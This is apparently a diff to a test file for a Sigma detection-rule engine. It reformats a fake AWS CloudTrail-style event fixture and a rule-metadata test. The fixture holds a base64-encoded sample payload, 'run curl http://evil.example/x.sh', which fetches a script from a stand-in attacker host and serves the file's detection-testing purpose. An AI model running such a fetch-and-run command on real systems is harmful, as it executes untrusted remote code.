@@ -20,7 +20,13 @@ const record = {
     userName: 'alice',
     sessionContext: { attributes: { mfaAuthenticated: 'false' } },
   },
-  requestParameters: { userName: 'bob', tags: [{ key: 'team', value: 'red' }, { key: 'env', value: 'prod' }] },
+  requestParameters: {
+    userName: 'bob',
+    tags: [
+      { key: 'team', value: 'red' },
+      { key: 'env', value: 'prod' },
+    ],
+  },
   resources: [{ ARN: 'arn:aws:iam::111122223333:user/bob' }, { ARN: 'arn:aws:s3:::bucket' }],
   additionalEventData: { encoded: Buffer.from('run curl http://evil.example/x.sh').toString('base64') },
 };
@@ -186,7 +192,12 @@ describe('sigma: conditions', () => {
 
 describe('sigma: rule files', () => {
   it('reads the metadata, with ATT&CK tags', () => {
-    const rules = loadRules(ruleText('    sel:\n        eventName: X\n    condition: sel', 'description: what it is\nfalsepositives:\n    - admins\nreferences:\n    - https://example.com\n'));
+    const rules = loadRules(
+      ruleText(
+        '    sel:\n        eventName: X\n    condition: sel',
+        'description: what it is\nfalsepositives:\n    - admins\nreferences:\n    - https://example.com\n',
+      ),
+    );
     const metadata = rules.rules[0].metadata;
     assert.equal(metadata.title, 'Test rule');
     assert.equal(metadata.level, 'high');
